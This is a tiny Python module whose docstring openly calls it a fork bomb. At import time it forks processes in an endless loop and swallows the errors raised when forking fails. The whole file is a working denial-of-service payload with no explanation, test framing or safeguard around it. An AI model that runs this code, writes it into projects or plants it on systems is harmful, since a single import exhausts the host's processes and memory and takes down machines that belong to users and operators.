"""Fork bomb: every process forks forever, at import."""
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
